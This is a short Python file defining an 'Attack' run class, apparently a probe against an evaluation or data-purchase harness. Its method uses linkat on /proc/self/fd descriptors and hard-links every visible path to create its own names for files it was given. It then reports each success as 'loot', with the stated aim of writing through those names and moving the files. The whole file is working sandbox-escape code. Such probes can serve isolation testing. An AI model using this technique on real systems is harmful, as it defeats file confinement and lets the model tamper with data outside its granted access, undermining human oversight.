"""Gives the files it was given other names in its home, to write through those, and moves them away."""

import os

from aim import HOME, LIBC, attempt, given, loot, visible

from run import ZEWDPCBaseRun

FOLLOW, EMPTY = 0x400, 0x1000


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        names = []
        for number in given():
            for flags, source in ((FOLLOW, f"/proc/self/fd/{number}".encode()), (EMPTY, b"")):
                names.append(f"{HOME}/linked{number}-{flags}")
                LIBC.linkat(number if flags == EMPTY else -100, source, -100, names[-1].encode(), flags)
        for at, path in enumerate(visible()):
            names.append(f"{HOME}/moved{at}")
            if not path.startswith("/proc"):
                attempt(os.link, path, names[-1])
        for name in names:
            if os.path.exists(name):
                loot(f"a name of its own for a given file: {name}")
